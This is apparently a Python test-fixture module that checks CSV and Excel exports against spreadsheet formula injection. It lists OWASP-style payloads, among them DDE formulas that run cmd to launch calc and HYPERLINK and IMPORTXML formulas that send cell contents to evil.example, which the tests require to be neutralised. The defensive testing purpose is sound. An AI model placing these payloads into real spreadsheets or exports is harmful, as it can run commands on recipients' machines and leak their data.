"""Orders for the tests of tables, and workbooks and tables opened again by other readers."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO
from typing import Any

from openpyxl import load_workbook

from lgq_tui.core.interview import Interview
from lgq_tui.exports.order import Order
from lgq_tui.locales.speech import say

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    "=DDE('cmd';'/C calc';'x')",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121+1",
    'x",=1+1',
    "x;=1+1",
    "x\n=1+1",
    "#N/A",
    "_x003D_1+1",
    "'=1+1",
)
"""What makes spreadsheet programs calculate, or worse, where it is let through; as OWASP lists it,
and some more."""


def order(*interviews: Interview, **more: Any) -> Order:
    return Order(interviews, say, **more)


def rows_in(content: bytes) -> list[list[str]]:
    """The rows of a table in text, the first of which are its names."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def cells_in(content: bytes, sheet: str) -> list[list[Any]]:
    """The cells of a sheet as the library reads them; formulas would be there, and are not."""
    workbook = load_workbook(BytesIO(content))
    for row in workbook[sheet].iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), cell.value
            assert isinstance(cell.value, str) == (cell.data_type == "s" and cell.value is not None)
            assert cell.quotePrefix == isinstance(cell.value, str)
    return [list(row) for row in workbook[sheet].iter_rows(values_only=True)]
